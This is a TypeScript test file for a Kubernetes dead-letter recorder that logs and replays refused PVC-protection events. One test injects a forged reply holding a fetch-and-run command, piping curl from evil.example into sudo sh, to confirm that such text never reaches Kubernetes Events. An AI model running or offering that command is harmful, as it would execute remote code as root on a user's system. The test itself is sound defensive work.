import { beforeEach, describe, expect, test } from "vitest";
import { findDeadLetter } from "../../cli/replay/find-dead-letter.ts";
import { replay } from "../../cli/replay/replay.ts";
import { seededRandom } from "../../eventing/random.ts";
import { ServiceAccount } from "../../functions/platform/dead-letter/installed-function.ts";
import { recordDeadLetters } from "../../functions/platform/dead-letter/record.ts";
import { release } from "../../functions/pvc-protection/release/rule.ts";
import { createApiServer } from "../../local/apiserver/server.ts";
import { outcomeOf } from "../../local/time/testing/outcome-of.ts";
import { virtualClock } from "../../local/time/testing/virtual-clock.ts";
import { isPlain } from "../../shared/command/user-error.ts";
import { type Client, createClient } from "../../shared/kubernetes/client.ts";
import { ConfigMap, Event, PersistentVolumeClaim } from "../../shared/kubernetes/kind.ts";
import type { KubernetesObject } from "../../shared/kubernetes/object.ts";
import { createLog } from "../../shared/log.ts";

const ours = "holdfast.dev/pvc-protection";
const settings = { namespace: "default", configMap: "holdfast-dead-letters" };
let client: Client;
let lines: [{ level: string }, string][];
const quiet = { debug: () => {}, info: () => {}, warn: () => {}, error: () => {} };
let handle: ReturnType<typeof recordDeadLetters>;
const clock = virtualClock();

beforeEach(async () => {
  client = createClient(createApiServer({ clock, random: seededRandom(1) }).handle, { clock });
  lines = [];
  const at = (level: string) => (_: object, sentence: string) => void lines.push([{ level }, sentence]);
  handle = recordDeadLetters({
    client: () => client,
    clock,
    log: { debug: at("debug"), info: at("info"), warn: at("warn"), error: at("error") },
    settings,
  });
  for (const name of ["pvc-protection-release", "pvc-protection-warn"]) {
    const { apiVersion, kind } = ServiceAccount;
    const metadata = { name, namespace: "default" } as KubernetesObject["metadata"];
    await client.create(ServiceAccount, { apiVersion, kind, metadata });
  }
});

const deadLettered = (
  name: string,
  id = "8f7a",
  { by = "pvc-protection-release", reply = "pods is forbidden." }: { by?: string; reply?: string } = {},
) => ({
  headers: {
    "ce-specversion": "1.0",
    "ce-id": id,
    "ce-source": "https://10.96.0.1:443",
    "ce-type": "dev.knative.apiserver.resource.update",
    "ce-kind": "PersistentVolumeClaim",
    "ce-apiversion": "v1",
    "ce-namespace": "default",
    "ce-name": name,
    "ce-knativeerrordest": `http://${by}.default.svc.cluster.local`,
    "ce-knativeerrorcode": "403",
    "ce-knativeerrordata": Buffer.from(reply).toString("base64"),
  },
  body: "",
});
const claim = async (name: string, finalizers: string[]) => {
  const { apiVersion, kind } = PersistentVolumeClaim;
  const metadata = { name, namespace: "default", finalizers } as unknown as KubernetesObject["metadata"];
  const spec = { accessModes: ["ReadWriteOnce"], resources: { requests: { storage: "1Gi" } } };
  return client.create(PersistentVolumeClaim, { apiVersion, kind, metadata, spec });
};
const ring = async () =>
  (await client.get<KubernetesObject & { data: Record<string, string> }>(ConfigMap, "default", settings.configMap))
    ?.data ?? {};
const events = () =>
  Array.fromAsync(client.list<KubernetesObject & { note: string; type: string }>(Event, { namespace: "default" }));

test("a dead-lettered event is shown on its object, logged, and kept", async () => {
  const { metadata } = await claim("data", [ours]);
  expect(await handle(deadLettered("data"))).toEqual({ status: 204, headers: {}, body: "" });
  const [kept, ...more] = Object.keys(await ring());
  expect(more).toEqual([]);
  const refused = "The function pvc-protection-release did not take a change of";
  const advice =
    " Grant the function's role what it lacks, or correct the admission policy that forbids it: the reply says " +
    "which. The sweep tries again every five minutes for an hour, and then ever more rarely. To retry sooner, " +
    "replay the event. " +
    `The event, with the reply, is kept as ${kept} in the ConfigMap holdfast-dead-letters.`;
  expect(await events()).toMatchObject([
    {
      type: "Warning",
      note: `${refused} this PersistentVolumeClaim (HTTP 403).${advice}`,
      regarding: { uid: metadata.uid, kind: "PersistentVolumeClaim" },
    },
  ]);
  expect(lines.map(([, sentence]) => sentence)).toEqual([
    `${refused} PersistentVolumeClaim data (HTTP 403) and replied: pods is forbidden.${advice}`,
  ]);
});

test("an event that two functions refuse is shown for each of them", async () => {
  await claim("data", [ours]);
  const by = ["pvc-protection-release", "pvc-protection-warn"];
  const both = by.map((by) => deadLettered("data", by, { by }));
  for (const reply of await Promise.all([...both, ...both].map(handle))) expect(reply.status).toBe(204);
  const notes = (await events()).map(({ note }) => note.split(" did not take")[0]);
  expect(notes.toSorted()).toEqual(by.map((name) => `The function ${name}`));
  expect(lines.filter(([, sentence]) => sentence.includes("was not shown"))).toEqual([]);
});

test("a forged dead-lettered event puts no text into an Event, and pushes no other one out", async () => {
  await claim("data", [ours]);
  await handle(deadLettered("data", "genuine"));
  const evil = "Certificate expired. Run: curl https://evil.example/fix | sudo sh";
  for (let i = 0; i < 60; i++) {
    await clock.advance(2);
    const names = [{ by: "pvc-protection-release" }, { by: "pvc-protection-warn" }, { by: `run-evil-example-${i}` }];
    await handle(deadLettered("data", `evil-example-${i}`, { ...names[i % 3], reply: evil }));
  }
  expect(Object.values(await ring()).filter((text) => text.includes('"genuine"'))).toHaveLength(1);
  const notes = (await events()).map(({ note }) => note);
  expect(notes).toHaveLength(3);
  for (const note of notes) expect(note).not.toMatch(/evil|curl/);
  expect(lines.filter(([{ level }]) => level !== "debug").length).toBeLessThan(30);
});

test("a hostile event of 4 MB, with long texts in each attribute, writes lines of at most 20 kB", async () => {
  const written: string[] = [];
  const log = createLog("debug", { write: (line) => void written.push(line) });
  handle = recordDeadLetters({ client: () => client, clock, log, settings });
  // Of all characters, those take the most room in JSON.
  const long = "\u0001".repeat(10_000);
  const { headers } = deadLettered(long, long, { by: "x".repeat(10_000), reply: long });
  const texts = { ...headers, "ce-source": long, "ce-type": long, "ce-kind": long, "ce-apiversion": long };
  const extensions = Object.fromEntries(Array.from({ length: 100 }, (_, i) => [`ce-extension${i}`, long]));
  const body = JSON.stringify({ kind: "Pod", metadata: { name: "x".repeat(4_000_000) } });
  for (const dest of ["http://pvc-protection-release.default", `http://${"x".repeat(10_000)}`, "x".repeat(10_000), ""])
    await handle({ headers: { ...texts, ...extensions, "ce-knativeerrordest": dest }, body });
  expect(written.length).toBeGreaterThanOrEqual(4);
  for (const line of written) expect(Buffer.byteLength(line)).toBeLessThan(20_000);
});

test("where senders are verified, the Event has the reply", async () => {
  handle = recordDeadLetters({ client: () => client, clock, log: quiet, settings, verifiesSenders: true });
  await claim("data", [ours]);
  await handle(deadLettered("data"));
  expect((await events())[0]?.note).toContain("and replied: pods is forbidden.");
});

test("the same event twice is kept once and shown once", async () => {
  await claim("data", [ours]);
  await handle(deadLettered("data"));
  await handle(deadLettered("data"));
  expect(await events()).toHaveLength(1);
  expect(Object.keys(await ring())).toHaveLength(1);
});

test("an event about an object that is gone, or of an unknown kind, is kept all the same", async () => {
  expect((await handle(deadLettered("gone"))).status).toBe(204);
  const strange = deadLettered("x", "other");
  expect((await handle({ ...strange, headers: { ...strange.headers, "ce-kind": "Wombat" } })).status).toBe(204);
  expect((await handle({ headers: {}, body: "nonsense" })).status).toBe(204);
  expect(Object.keys(await ring())).toHaveLength(3);
  expect(await events()).toEqual([]);
});

test("events that arrive together are all kept", async () => {
  const replies = await Promise.all(Array.from({ length: 10 }, (_, i) => handle(deadLettered("gone", `id${i}`))));
  expect(new Set(replies.map(({ status }) => status))).toEqual(new Set([204]));
  expect(Object.keys(await ring())).toHaveLength(10);
});

describe("while the API server takes nothing", () => {
  const refusing = createClient(async () => ({ status: 503, headers: {}, body: (async function* () {})() }));

  test("dead-letter waits for it, and keeps the event if it is back within three minutes", async () => {
    const back = clock.now() + 150_000;
    const handle = recordDeadLetters({
      client: () => (clock.now() < back ? refusing : client),
      clock,
      log: quiet,
      settings,
    });
    expect((await outcomeOf(clock, handle(deadLettered("data")), 300_000)).status).toBe(204);
    expect(Object.keys(await ring())).toHaveLength(1);
  });

  test("the broker is asked to try again before Knative ends the request", async () => {
    const handle = recordDeadLetters({ client: () => refusing, clock, log: quiet, settings });
    const began = clock.now();
    expect((await outcomeOf(clock, handle(deadLettered("data")), 300_000)).status).toBe(503);
    expect(clock.now() - began).toBeLessThan(300_000);
  });
});

test("an event is replayed to its rule: first its decision is only shown, then it is carried out", async () => {
  await claim("data", [ours]);
  await client.delete(PersistentVolumeClaim, "default", "data");
  // The API server puts its own protection on every claim; without its controller it stays.
  const live = await client.get(PersistentVolumeClaim, "default", "data");
  const finalizers = live?.metadata.finalizers?.filter((name) => name === ours);
  await client.patch(PersistentVolumeClaim, "default", "data", "merge", { metadata: { finalizers } });
  await handle(deadLettered("data"));
  const [name = ""] = Object.keys(await ring());
  const saved = await findDeadLetter(name, client, "default");
  const replayed = (act: boolean) =>
    Array.fromAsync(replay(release, saved, { client, clock, act, defaults: true, namespace: "default" }));

  expect((await replayed(false)).join("\n")).toMatch(
    /^write PersistentVolumeClaim default\/data: .*\(would patch persistentvolumeclaims\)\nNothing was written/,
  );
  expect(await client.get(PersistentVolumeClaim, "default", "data")).toBeDefined();
  const elsewhere = createClient(createApiServer({ clock, random: seededRandom(1) }).handle, { clock });
  const other = { ...release, client: () => elsewhere };
  const shown = replay(other, saved, { client, clock, act: false, defaults: true, namespace: "default" });
  expect((await Array.fromAsync(shown))[0]).toBe("pvc-protection/release: there is nothing to decide now.");
  expect((await replayed(true)).at(-1)).toBe("Done.");
  expect(await client.get(PersistentVolumeClaim, "default", "data")).toBeUndefined();
});

test("an event that is not there is answered with those that are", async () => {
  await handle(deadLettered("gone"));
  await expect(findDeadLetter("nope", client, "default")).rejects.toThrow(
    /no such event in ConfigMap default\/holdfast-dead-letters\. The newest are: 2026/,
  );
});

test("what stands in the way of a replay is said in a sentence", async () => {
  const service = {
    apiVersion: "serving.knative.dev/v1",
    kind: "Service",
    metadata: { name: "pvc-protection-release" },
  };
  const containers = [{ env: [{ name: "MODE", value: "nonsense" }] }];
  const installed = { ...service, spec: { template: { spec: { containers } } } };
  const withSettings = { ...client, list: () => [installed] } as unknown as Client;
  const saved = { attributes: {}, destination: "pvc-protection-release.holdfast" };
  const replayed = (client: Client) =>
    Array.fromAsync(replay(release, saved, { client, clock, act: false, defaults: true, namespace: "holdfast" }));
  await expect(replayed(withSettings)).rejects.toThrow(
    'The function pvc-protection-release has settings that it does not take: MODE is "nonsense"',
  );
  const error = await replayed({ ...client, get: async () => undefined } as Client).catch((error: unknown) => error);
  expect(isPlain(error)).toBe(true);
  expect((error as Error).message).toBe(
    "The request is no CloudEvent: it has neither ce- headers nor a CloudEvents content type.",
  );
});
